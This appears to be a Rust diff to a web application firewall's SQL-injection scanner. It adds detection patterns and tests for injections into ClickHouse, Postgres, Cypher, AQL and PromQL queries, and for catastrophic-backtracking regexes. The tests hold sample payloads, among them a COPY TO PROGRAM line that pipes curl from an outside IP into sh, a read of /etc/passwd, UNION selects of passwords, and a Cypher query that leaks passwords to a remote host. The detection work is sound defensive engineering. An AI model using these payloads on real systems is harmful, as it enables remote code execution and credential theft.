@@ -20,6 +20,15 @@ pub(crate) struct Sqli {
     exec_comment: regex::bytes::Regex,
     /// libinjection's word table, to skip text it cannot flag.
     words: Option<SqlWords>,
+    /// In a read statement: `OR` and two literals compared, both captured (`or 1=1`,
+    /// `or ''=''`), a tautology when they are the same.
+    statement_tautology: regex::Regex,
+    /// In a read statement: the select list after `UNION`, captured up to its `FROM`.
+    union_select: regex::Regex,
+    /// Injections into the other query languages of data stores, and regular expressions
+    /// made to backtrack, read on the lower-case text (comments kept: `//` ends a Cypher or
+    /// AQL injection).
+    query_languages: Patterns,
 }
 
 /// Operand of a comparison in a tautology: a number, a quoted string or a bare word.
@@ -107,7 +116,22 @@ impl Sqli {
                 SQLI_FUNCTION,
                 r#"\b(?:geometrycollection|multipoint|multilinestring|multipolygon|linestring|polygon)\s*(?:\(\s*)+(?:select\b|['"@]|[a-z_]+\s*(?:\(\s*)+(?:select\b|['"@]))"#.to_owned(),
             ),
-            (SQLI_FUNCTION, r"\b(?:hex|char|chr|concat|substr|substring|ascii|ord|elt|conv|current_user|system_user|session_user|sleep)\(".to_owned()),
+            // Not a method called on a member (`doc.created.substr(0, 7)`, JavaScript's and
+            // painless's strings): SQL calls these bare.
+            (SQLI_FUNCTION, r"(?:^|[^.\w]|[^\w\])]\.)(?:hex|char|chr|concat|substr|substring|ascii|ord|elt|conv|current_user|system_user|session_user|sleep)\(".to_owned()),
+            // Postgres's `COPY … TO PROGRAM` and `FROM PROGRAM` run a shell command.
+            (SQLI_FUNCTION, r"\bcopy\b[^;]{0,300}?\b(?:to|from)\s+program\s*['$e]".to_owned()),
+            // ClickHouse's table functions that run a script, write to another place
+            // (`INSERT INTO FUNCTION s3(…) SELECT …`), read the server's files, or reach a
+            // database or a host on an internal address (`remote('10.0.0.5:9000', …)`).
+            (
+                SQLI_FUNCTION,
+                r"\bexecutable\s*\(\s*'|\binto\s+function\s+[a-z0-9_]+\s*\(|\bfile\s*\(\s*'(?:/|\.\./)".to_owned(),
+            ),
+            (
+                SQLI_FUNCTION,
+                r"\b(?:remote|remotesecure|cluster|postgresql|mysql|mongodb|redis|jdbc|odbc|hdfs|url|s3)\s*\(\s*'(?:[a-z0-9+]+://)?(?:[^'@/]*@)?(?:127\.|10\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|169\.254\.|0\.0\.0\.0|localhost\b|\[?::1\]?)".to_owned(),
+            ),
             (SQLI_FUNCTION, r"\bwaitfor\s+(?:delay|time)\s+'".to_owned()),
             (SQLI_FUNCTION, r"\binto\s+(?:out|dump)file\b".to_owned()),
             (SQLI_FUNCTION, r"\b(?:xp_cmdshell|xp_regread|xp_dirtree|sp_executesql|sp_oacreate|xp_reg\w+)\b".to_owned()),
@@ -181,6 +205,59 @@ impl Sqli {
             )
             .map_err(|e| WafError::Pattern(e.to_string()))?,
             words: SqlWords::new(),
+            statement_tautology: regex::Regex::new(
+                r"\bor\s+(?:(\d+)\s*=\s*(\d+)|'([^']{0,40})'\s*=\s*'([^']{0,40})'|(true|not\s+false)\b)",
+            )
+            .map_err(|e| WafError::Pattern(e.to_string()))?,
+            query_languages: Patterns::new(&[
+                // Cypher and AQL: a string closed, then `RETURN` and what takes more than the
+                // query asked (a `UNION`, a procedure's `YIELD`, AQL's `DOCUMENT()`, or a
+                // `//` comment cutting the query's own rest off).
+                (
+                    SQLI_QUERY_LANGUAGE,
+                    r#"['"]\s*\)?\s*return\b[^\n]{0,300}?(?://\s*$|\bunion\b|\byield\b|\bdocument\s*\()"#,
+                ),
+                (
+                    SQLI_QUERY_LANGUAGE,
+                    r#"['"]\s*\)?\s*(?:union\s+(?:all\s+)?(?:match|call|for|optional)\b|call\s+(?:db|dbms|apoc)\.)"#,
+                ),
+                // ArangoDB's system collections (`FOR u IN _users`, `DOCUMENT("_users/root")`).
+                (
+                    SQLI_QUERY_LANGUAGE,
+                    r#"\bin\s+_(?:users|graphs|modules|jobs|queues|frontend|apps|aqlfunctions|analyzers)\b|\bdocument\s*\(\s*['"]_users/"#,
+                ),
+                // Cypher's `LOAD CSV FROM` a URL with a value joined on (`'https://x/?p=' +
+                // u.password`): the server sends what it read to that host.
+                (
+                    SQLI_QUERY_LANGUAGE,
+                    r#"\bload\s+csv\b[^\n]{0,80}?\bfrom\s*['"][a-z]+://[^'"]*['"]\s*\+"#,
+                ),
+                // A value that closes a bracket it never opened and joins a clause of its own
+                // (`published) OR (_exists_:password_hash`): a search or filter string breaking
+                // out of the application's brackets.
+                (
+                    SQLI_QUERY_LANGUAGE,
+                    r"^[^(]*\)\s*(?:or|and|\|\||&&)\s*\(\s*[\w.]+\s*(?::|=|!=|<|>)",
+                ),
+                // PromQL and LogQL: a label value that closes a matcher it never opened and
+                // adds a selector or a pipeline (`checkout"} or {__name__=~".+"}`, `x"} |=
+                // ""`); a whole query opens its own (`{app="web"} |= "error"`).
+                (
+                    SQLI_QUERY_LANGUAGE,
+                    r#"^[^{]*['"]\s*\}\s*(?:(?:or|and|unless)\s+[\w{]|\|\s*[=~])"#,
+                ),
+                // A group holding one quantified atom, quantified again (`(a+)+`, `(\w+\s?)*`,
+                // `(([a-z])+.)+`): a backtracking engine takes exponential time to fail on it.
+                // A literal between the repeats (`([a-z0-9-]+\.)*`) is no such group.
+                (
+                    PROTO_REDOS,
+                    r"\((?:\?:)?(?:\\[a-z]|\[[^\]]{1,30}\]|\([^()]{1,30}\)|[a-z0-9.])[+*](?:(?:\\[a-z]|\[[^\]]{1,30}\]|[a-z0-9.])[?*]|\.)?\)(?:[+*]|\{\d+,\d*\})",
+                ),
+            ])?,
+            union_select: regex::Regex::new(
+                r"\bunion\s+(?:all\s+|distinct\s+)?select\b(.{0,400}?)\bfrom\b",
+            )
+            .map_err(|e| WafError::Pattern(e.to_string()))?,
         })
     }
 
@@ -188,8 +265,16 @@ impl Sqli {
     /// (OData's `$filter`, Jira's `jql`, SCIM's `filter`) are comparisons joined by `and` and
     /// `or`, which libinjection and the tautology rule read as SQL: in those parameters a
     /// well-formed expression ([`filter_expression`]) skips those two and gets every other
-    /// SQL rule (statements, functions, comments, subqueries). A value that breaks out of a
-    /// string, or has a comment or `;`, is read as any other.
+    /// SQL rule (statements, functions, comments, subqueries). The query parameters of SQL
+    /// endpoints (`query` of ClickHouse and Elasticsearch's `_sql`, InfluxDB's `q`, Pinot's
+    /// `sql`, a Trino statement as the body) hold whole statements: a well-formed read
+    /// ([`read_statement`]) skips the paranoia-1 rules that read a statement's shape as an
+    /// injection (libinjection, tautology, `UNION`, `GROUP BY … HAVING`), and gets those for
+    /// what it calls and reads (functions that sleep, run or read files, schema tables,
+    /// comments, stacked statements), those for what injections leave in a statement
+    /// ([`Sqli::statement_injection`]), and from paranoia 2 the operator rules, which flag
+    /// any statement. A value that breaks out of a string,
+    /// or has a comment or `;`, is read as any other.
     pub(crate) fn scan_value(&self, label: &str, v: &Variants, sink: &mut Sink<'_>) {
         let param = super::param_name(label);
         // A `$where` parameter holding JavaScript rather than SoQL: an application that hands
@@ -203,11 +288,24 @@ impl Sqli {
             sink.hit(SQLI_NOSQL, v.lower(), at);
         }
         let filter_param = FILTER_PARAMS.iter().any(|p| p.eq_ignore_ascii_case(param));
-        if !filter_param || !filter_expression(v.norm()) {
+        let statement_param = STATEMENT_PARAMS
+            .iter()
+            .any(|p| p.eq_ignore_ascii_case(param));
+        let shape_only: &[u32] = if filter_param && filter_expression(v.norm()) {
+            &[SQLI_LIBINJECTION, SQLI_TAUTOLOGY]
+        } else if statement_param && read_statement(v.norm()) {
+            self.statement_injection(v.lower(), sink);
+            &[
+                SQLI_LIBINJECTION,
+                SQLI_TAUTOLOGY,
+                SQLI_UNION,
+                SQLI_STATEMENT,
+            ]
+        } else {
             return self.scan(v, sink);
-        }
+        };
         let outer = sink.enabled;
-        let enabled = |id: u32| id != SQLI_LIBINJECTION && id != SQLI_TAUTOLOGY && outer(id);
+        let enabled = |id: u32| !shape_only.contains(&id) && outer(id);
         let mut inner = Sink {
             enabled: &enabled,
             hits: std::mem::take(&mut sink.hits),
@@ -255,6 +353,7 @@ impl Sqli {
             }
         }
         self.patterns.scan(v.compact(), sink);
+        self.query_languages.scan(v.lower(), sink);
         if sink.wants(SQLI_EXEC_COMMENT)
             && memchr::memmem::find(v.lower().as_bytes(), b"/*!").is_some()
             && let Some(m) = self.exec_comment.find(v.lower().as_bytes())
@@ -376,6 +475,42 @@ impl Sqli {
         sink.hit(rule, v.lower(), 0);
     }
 }
+
+impl Sqli {
+    /// What an injection leaves in a whole read statement that the statement's own shape
+    /// does not explain: `OR` with two equal literals (`WHERE device='d-17' OR 1=1`, `sid =
+    /// '' OR ''=''`; `WHERE 1=1 AND …`, a query builder's habit, is no `OR`), and `UNION`
+    /// selecting a credential ([`CREDENTIAL_COLUMNS`]).
+    fn statement_injection(&self, lower: &str, sink: &mut Sink<'_>) {
+        let tautology = self.statement_tautology.captures_iter(lower).find(|c| {
+            c.get(5).is_some()
+                || c.get(1)
+                    .zip(c.get(2))
+                    .is_some_and(|(a, b)| a.as_str() == b.as_str())
+                || c.get(3)
+                    .zip(c.get(4))
+                    .is_some_and(|(a, b)| a.as_str() == b.as_str())
+        });
+        if let Some(c) = tautology {
+            sink.hit(SQLI_TAUTOLOGY, lower, c.get(0).map_or(0, |m| m.start()));
+        }
+        let credential = self.union_select.captures_iter(lower).find(|c| {
+            c.get(1).is_some_and(|list| {
+                list.as_str()
+                    .split(|ch: char| !(ch.is_ascii_alphanumeric() || ch == '_'))
+                    .any(|w| CREDENTIAL_COLUMNS.iter().any(|k| w.contains(k)))
+            })
+        });
+        if let Some(c) = credential {
+            sink.hit(SQLI_UNION, lower, c.get(0).map_or(0, |m| m.start()));
+        }
+    }
+}
+
+/// Parts of the names of columns that hold credentials.
+const CREDENTIAL_COLUMNS: &[&str] = &[
+    "passw", "passwd", "pwd", "secret", "api_key", "apikey", "token",
+];
 
 /// JavaScript rather than a filter language: a member of `this`, a function, a statement, or
 /// JavaScript's comparison and boolean operators (SoQL and OData write `=`, `AND`, `OR`).
@@ -935,6 +1070,36 @@ const FILTER_PARAMS: &[&str] = &[
     "when",
 ];
 
+/// Parameters that carry a whole SQL statement on the endpoints made to run one (a JSON
+/// field, a query parameter, a form field, or the body itself).
+const STATEMENT_PARAMS: &[&str] = &["body", "q", "query", "sql", "statement", "stmt"];
+
+/// The words a read statement starts with.
+const READ_WORDS: &[&str] = &["describe", "explain", "select", "show", "with"];
+
+/// Words that write, run or wait, and `into` (`SELECT … INTO OUTFILE`): no read has them
+/// outside its strings.
+const WRITE_WORDS: &[&str] = &[
+    "alter",
+    "benchmark",
+    "call",
+    "create",
+    "delete",
+    "drop",
+    "exec",
+    "execute",
+    "grant",
+    "insert",
+    "into",
+    "merge",
+    "replace",
+    "shutdown",
+    "sleep",
+    "truncate",
+    "update",
+    "waitfor",
+];
+
 /// Words that no filter language has outside its strings and every SQL injection needs one of.
 const STATEMENT_WORDS: &[&str] = &[
     "benchmark",
@@ -960,20 +1125,50 @@ const STATEMENT_WORDS: &[&str] = &[
 /// tick or [`STATEMENT_WORDS`] word. `Name eq 'O''Neil' and Price gt 20` is one;
 /// `x' or '1'='1` (a string that starts mid-word) and `1 union select 2` are not.
 fn filter_expression(s: &str) -> bool {
+    well_formed(s, false)
+}
+
+/// Whether `s` is one read statement on its own: [`READ_WORDS`] first, then what
+/// [`filter_expression`] allows, but with [`WRITE_WORDS`] as the words it must not have,
+/// back-ticked identifiers read as quoted ones, and `.` and `::` beside quotes
+/// (`"hive"."web"`, `'2024-01-01'::date`); one `;` may end it. `SELECT host, count()
+/// FROM logs WHERE level = 'error' GROUP BY host` is one; `SELECT 1; DROP TABLE t`, `SELECT
+/// a FROM t -- x` and `SELECT * INTO OUTFILE '/tmp/x' FROM t` are not.
+fn read_statement(s: &str) -> bool {
+    let s = s.trim();
+    let s = s.strip_suffix(';').unwrap_or(s).trim_end();
+    let first = s
+        .split(|c: char| c.is_ascii_whitespace())
+        .next()
+        .unwrap_or_default();
+    s.len() > first.len()
+        && READ_WORDS.iter().any(|w| w.eq_ignore_ascii_case(first))
+        && well_formed(s, true)
+}
+
+/// The scan behind [`filter_expression`] and [`read_statement`] (`statement`).
+fn well_formed(s: &str, statement: bool) -> bool {
     let b = s.as_bytes();
     let mut depth = 0usize;
     let mut i = 0;
     // Start of the word being read: words are compared where they stand, not copied.
     let mut word = 0;
-    let statement = |w: &[u8]| {
+    let forbidden = if statement {
+        WRITE_WORDS
+    } else {
         STATEMENT_WORDS
+    };
+    let statement_word = |w: &[u8]| {
+        forbidden
             .iter()
             .any(|k| k.as_bytes().eq_ignore_ascii_case(w))
     };
+    let beside_quote: &[u8] = if statement { b".:" } else { b"" };
+    let mut from = false;
     let boundary_before = |i: usize| {
-        b[..i]
-            .last()
-            .is_none_or(|c| c.is_ascii_whitespace() || b"(,[=<>!~:".contains(c))
+        b[..i].last().is_none_or(|c| {
+            c.is_ascii_whitespace() || b"(,[=<>!~:".contains(c) || beside_quote.contains(c)
+        })
     };
     while i < b.len() {
         let c = b[i];
@@ -981,11 +1176,13 @@ fn filter_expression(s: &str) -> bool {
             i += 1;
             continue;
         }
-        if statement(&b[word..i]) {
+        let w = &b[word..i];
+        if statement_word(w) || (statement && hex_literal(w)) {
             return false;
         }
+        from |= w.eq_ignore_ascii_case(b"from");
         match c {
-            b'\'' | b'"' => {
+            b'\'' | b'"' | b'`' if c != b'`' || statement => {
                 if !boundary_before(i) {
                     return false;
                 }
@@ -1000,7 +1197,9 @@ fn filter_expression(s: &str) -> bool {
                     }
                 }
                 let after = b.get(i + 1);
-                if !after.is_none_or(|a| a.is_ascii_whitespace() || b"),]".contains(a)) {
+                if !after.is_none_or(|a| {
+                    a.is_ascii_whitespace() || b"),]".contains(a) || beside_quote.contains(a)
+                }) {
                     return false;
                 }
             }
@@ -1010,6 +1209,8 @@ fn filter_expression(s: &str) -> bool {
                 None => return false,
             },
             b';' | b'#' | b'`' => return false,
+            // Variables (`@@version`), in a statement.
+            b'@' if statement => return false,
             b'-' if b.get(i + 1) == Some(&b'-') => return false,
             b'/' if b.get(i + 1) == Some(&b'*') => return false,
             _ => {}
@@ -1017,8 +1218,46 @@ fn filter_expression(s: &str) -> bool {
         i += 1;
         word = i;
     }
-    depth == 0 && !statement(&b[word..])
+    let last = &b[word..];
+    if !statement {
+        return depth == 0 && !statement_word(last);
+    }
+    // A read ends complete (not on `WHERE`, `AND`, a comma or an operator, which an
+    // injected fragment leaves for the application's own text to finish), and a select reads
+    // from something.
+    let first = b
+        .split(|c| !c.is_ascii_alphanumeric())
+        .next()
+        .unwrap_or_default();
+    let dangling = last.is_empty()
+        && b.trim_ascii_end()
+            .last()
+            .is_some_and(|c| b",=<>!(+-*/|&".contains(c));
+    depth == 0
+        && !statement_word(last)
+        && !hex_literal(last)
+        && !dangling
+        && !DANGLING_WORDS.iter().any(|k| {
+            k.as_bytes().eq_ignore_ascii_case(
+                b.trim_ascii_end()
+                    .rsplit(|c| !c.is_ascii_alphanumeric() && *c != b'_')
+                    .next()
+                    .unwrap_or_default(),
+            )
+        })
+        && (from || !(first.eq_ignore_ascii_case(b"select") || first.eq_ignore_ascii_case(b"with")))
 }
+
+/// A hex literal (`0x61646d696e`), which spells a string without quotes.
+fn hex_literal(w: &[u8]) -> bool {
+    w.len() > 2 && w[..2].eq_ignore_ascii_case(b"0x") && w[2..].iter().all(u8::is_ascii_hexdigit)
+}
+
+/// Words a statement cannot end on.
+const DANGLING_WORDS: &[&str] = &[
+    "all", "and", "as", "between", "by", "case", "else", "from", "having", "in", "join", "like",
+    "limit", "not", "offset", "on", "or", "select", "then", "union", "when", "where",
+];
 
 /// An identifier (a letter, then letters, digits and `_`, such as `order_id`): libinjection
 /// reads it as one word token (its quote-prefixed string forms need a quote, and only `.` and
@@ -1359,6 +1598,185 @@ mod tests {
             "Price gt 20) UNION SELECT username FROM users--",
         ] {
             assert!(!super::filter_expression(bad), "{bad}");
+        }
+    }
+
+    #[test]
+    fn query_languages_of_data_stores() {
+        rule(
+            SQLI_QUERY_LANGUAGE,
+            true,
+            Kind::Value,
+            "query:name",
+            1,
+            &[
+                "x' RETURN 0 AS c UNION CALL db.labels() YIELD label RETURN label AS c //",
+                "X1' RETURN 1 UNION MATCH (u:User) RETURN u //",
+                "shoe\" RETURN DOCUMENT(\"_users/root\") //",
+                "a' RETURN n //",
+                "FOR p IN products RETURN p UNION (FOR u IN _users RETURN u)",
+                "MATCH (u) LOAD CSV FROM 'https://x.example/?p=' + u.password AS l RETURN 1",
+                "status:published) OR (_exists_:password_hash OR role:admin",
+                "1) or (id=1",
+                "checkout\"} or {__name__=~\".+\"} #",
+                "payments\"} |= \"\" or {namespace=~\".+",
+                "x') call dbms.procedures()",
+            ],
+        );
+        rule(
+            SQLI_QUERY_LANGUAGE,
+            false,
+            Kind::Value,
+            "query:q",
+            1,
+            &[
+                "MATCH (p:Person {name: 'Ann'}) RETURN p.name LIMIT 5",
+                "FOR d IN orders FILTER d.total > 10 RETURN d",
+                "a) apples or (b) pears",
+                "see (1) and (2)",
+                "sum(rate(http_requests_total{job=\"api\"}[5m])) by (code)",
+                "{app=\"web\"} |= \"error\"",
+                "She said \"no\" and left; return later",
+                "LOAD CSV WITH HEADERS FROM 'file:///people.csv' AS row RETURN row",
+            ],
+        );
+        rule(
+            PROTO_REDOS,
+            true,
+            Kind::Value,
+            "json:/selector/customer/$regex",
+            1,
+            &[
+                "^(a+)+$",
+                "^(([a-z])+.)+[A-Z]([a-z])+$",
+                "(\\w+\\s?)*$",
+                "(x*)*y",
+                "([0-9]+){2,}",
+            ],
+        );
+        rule(
+            PROTO_REDOS,
+            false,
+            Kind::Value,
+            "query:re",
+            1,
+            &[
+                "^([a-z0-9-]+\\.)*example\\.com$",
+                "(\\.[A-Za-z0-9-]+)*",
+                "(3+4)*2",
+                "(a|b)+",
+                "[a-z]+(-[a-z]+)*",
+            ],
+        );
+    }
+
+    #[test]
+    fn statements_keep_what_injections_leave() {
+        for (param, text, rule) in [
+            (
+                "stmt",
+                "SELECT id, price FROM products WHERE brand='acme' UNION SELECT id, password FROM users",
+                SQLI_UNION,
+            ),
+            (
+                "q",
+                "SELECT * FROM temp WHERE device_id='d-17' OR 1=1 OR device_id='' LIMIT 10000",
+                SQLI_TAUTOLOGY,
+            ),
+            (
+                "body",
+                "SELECT * FROM hive.web.sessions WHERE sid = '' OR '' = '' UNION ALL SELECT * FROM system.runtime.queries",
+                SQLI_TAUTOLOGY,
+            ),
+            (
+                "query",
+                "COPY (SELECT 1) TO PROGRAM 'curl 203.0.113.50|sh'",
+                SQLI_FUNCTION,
+            ),
+            (
+                "query",
+                "SELECT * FROM executable('id', 'TSV', 'out String')",
+                SQLI_FUNCTION,
+            ),
+            (
+                "query",
+                "SELECT * FROM remote('10.0.0.5:9000', system.one)",
+                SQLI_FUNCTION,
+            ),
+            (
+                "query",
+                "SELECT * FROM postgresql('10.0.4.21:5432', 'postgres', 'pg_authid', 'postgres', '')",
+                SQLI_FUNCTION,
+            ),
+            (
+                "query",
+                "SELECT * FROM file('/etc/passwd', 'LineAsString')",
+                SQLI_FUNCTION,
+            ),
+        ] {
+            let label = format!("query:{param}");
+            assert!(hits(Kind::Value, &label, text, 1).contains(&rule), "{text}");
+        }
+        for (param, text) in [
+            (
+                "query",
+                "SELECT region, sum(x) FROM a GROUP BY region UNION ALL SELECT region, sum(y) FROM b GROUP BY region",
+            ),
+            (
+                "q",
+                "SELECT mean(\"usage_idle\") FROM \"cpu\" WHERE time > now() - 1h GROUP BY time(5m)",
+            ),
+            ("sql", "SELECT * FROM t WHERE 1=1 AND status = 'open'"),
+            (
+                "query",
+                "SELECT count() FROM s3('https://b.example.com/data.csv', 'CSVWithNames')",
+            ),
+            (
+                "query",
+                "SELECT token_count, user_id FROM usage WHERE day = today()",
+            ),
+        ] {
+            let label = format!("query:{param}");
+            let h = hits(Kind::Value, &label, text, 1);
+            assert!(h.is_empty(), "{text}: {h:?}");
+        }
+    }
+
+    #[test]
+    fn read_statements() {
+        for ok in [
+            "SELECT host.name, COUNT(*) FROM logs WHERE level = 'error' GROUP BY host.name HAVING COUNT(*) > 5",
+            "select mean(\"usage_idle\") from \"cpu\" where time > now() - 1h group by time(5m)",
+            "WITH t AS (SELECT a FROM x) SELECT * FROM t UNION ALL SELECT b FROM y;",
+            "SELECT `user`, count() FROM `db`.`events` WHERE ts >= '2024-01-01'::date",
+            "SELECT * FROM \"hive\".\"web\".\"events\" WHERE name = 'O''Neil'",
+            "SHOW TABLES",
+            "SELECT count() FROM s3('https://b.example.com/data.csv')",
+        ] {
+            assert!(super::read_statement(ok), "{ok}");
+        }
+        for bad in [
+            "SELECT 1; DROP TABLE t",
+            "SELECT a FROM t -- x",
+            "SELECT a FROM t /* x */",
+            "SELECT * INTO OUTFILE '/tmp/x' FROM t",
+            "SELECT a FROM t WHERE '1'='1'",
+            "1 UNION SELECT password FROM users",
+            "' UNION SELECT 1",
+            "SELECT a FROM t WHERE x = 'y",
+            "SELECT (a FROM t",
+            "SELECT sleep(5)",
+            "select",
+            "SELECT a FROM t # c",
+            "selection of fine wines",
+            "select 1 from foo where",
+            "select sin(1),2 from bar where",
+            "select @version foo",
+            "SELECT 0x7461626c655f6e616d65 FROM all_tab_tables",
+            "SELECT a, FROM t WHERE x =",
+            "SELECT 1",
+        ] {
+            assert!(!super::read_statement(bad), "{bad}");
         }
     }
 
